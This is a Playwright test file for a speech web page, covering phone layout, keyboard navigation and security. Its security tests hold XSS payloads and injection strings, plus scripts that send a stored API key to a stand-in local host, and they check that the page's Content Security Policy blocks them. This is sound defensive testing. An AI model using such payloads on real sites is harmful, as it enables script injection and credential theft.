"""The page for everyone: keyboard, small screens, dark mode, and texts that try to be code."""

import json

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import PHONE

VIEWS = {"speak": "Speak", "account": "Account"}
# The text of the element that has the focus, "" where none has it.
FOCUSED = """(() => {
  const element = document.activeElement;
  return element === document.body ? "" : (element.labels?.[0] || element).textContent;
})()"""
HOSTILE = "<img src=x onerror=alert(1)> <script>alert(2)</script> javascript:alert(3) {{constructor}} ${7*7}"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("view", VIEWS)
def test_a_phone(visit, site, view, scheme):
    one = visit(viewport=PHONE, color_scheme=scheme, has_touch=True, is_mobile=True)
    page = one.open(site.url, view)
    page.get_by_role("heading", name=VIEWS[view]).wait_for()
    page.wait_for_load_state("networkidle")
    one.shot(f"phone-{view}-{scheme}")
    one.accessible()
    assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
    small = "[...document.querySelectorAll('button, select, input:not([type=radio], [type=range])')]"
    assert page.evaluate(f"{small}.filter((one) => one.offsetHeight && one.offsetHeight < 40).length") == 0


def test_the_keyboard_alone(visit, site):
    one = visit()
    page = one.page
    page.goto(f"{site.url}/studio")

    def reach(name):
        """Press the tab key until the element with a name has the focus."""
        for _ in range(40):
            page.keyboard.press("Tab")
            if name in page.evaluate(FOCUSED):
                return
        pytest.fail(f"not reached with the tab key: {name}")

    reach("Skip to the content")
    page.keyboard.press("Enter")
    reach("API key")
    page.keyboard.type(site.key)
    page.keyboard.press("Enter")
    page.get_by_text("The key is valid.").wait_for()
    page.keyboard.press("Shift+Tab")
    reach("Forget the key")
    page.reload()
    reach("Speak")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Speak")).to_be_focused()
    reach("Text")
    page.keyboard.press("Control+A")
    page.keyboard.type("Please bring twenty dollars.")
    reach("Speak")
    page.keyboard.press("Enter")
    expect(page.locator("[data-state]")).to_have_text("Finished")
    reach("dollars")
    page.keyboard.press("ArrowLeft")
    assert page.evaluate("document.activeElement.textContent") == "twenty"
    page.keyboard.press("Enter")
    expect(page.locator(".word.now")).to_have_text("twenty")
    reach("How it will be said")
    page.keyboard.press("Enter")
    page.get_by_text("Every word is said as it is written.").wait_for()


def test_speak_can_be_pressed_before_the_list_of_voices_arrives(visit, site):
    one = visit()
    held = []
    # Playwright inspects the handler, which it cannot for a method of a list.
    one.page.route("**/v1/voices", lambda route: held.append(route))  # noqa: PLW0108
    page = one.open(site.url)
    page.get_by_label("Text").fill("Please bring twenty dollars.")
    page.get_by_role("button", name="Speak", exact=True).click()
    page.locator("[data-state=ended]").wait_for()
    for route in held:
        route.continue_()
    expect(page.get_by_role("radio", name="en_US-heart English")).to_be_checked()


def test_a_hostile_text_stays_text(visit, site):
    one = visit()
    page = one.open(site.url)
    page.get_by_label("Text").fill(HOSTILE)
    page.get_by_text("How it will be said").click()
    page.locator(".spoken").wait_for()
    page.get_by_text("Copy as", exact=True).click()
    page.get_by_label("JavaScript").check()
    page.get_by_role("button", name="Speak", exact=True).click()
    page.locator("[data-state=ended]").wait_for()
    assert page.locator("img, iframe, object, script:not([src])").count() == 0
    assert json.dumps(HOSTILE) in page.locator("pre").inner_text()


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit=1\">')",
        "const s = document.createElement('script'); s.textContent = 'window.hit=1'; document.body.append(s)",
        "eval('window.hit=1')",
        "setTimeout('window.hit=1')",
        "fetch('http://127.0.0.1:9/?' + sessionStorage.getItem('herald.key'))",
        "const i = new Image(); i.src = 'http://127.0.0.1:9/?' + sessionStorage.getItem('herald.key')",
        "const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:9/'; document.body.append(f)",
    ],
)
def test_the_policy_stops_a_script_that_got_in(visit, site, attack):
    one = visit(tolerated=("",))
    page = one.open(site.url, "account")
    page.get_by_text("The key is valid.").wait_for()
    before = len(one.faults)
    # As a script of the page, to which its policy applies. Evaluations of a debugger are exempt by default.
    asked = {"expression": f"(async () => {{ {attack} }})()", "allowUnsafeEvalBlockedByCSP": False}
    page.context.new_cdp_session(page).send("Runtime.evaluate", asked)
    page.wait_for_timeout(100)
    assert page.evaluate("window.hit") is None
    assert len(one.faults) > before, "the browser reported no refusal"
    assert [r.url for r in one.requests if ":9/" in r.url and r.failure is None] == []
    one.requests = [r for r in one.requests if ":9/" not in r.url]
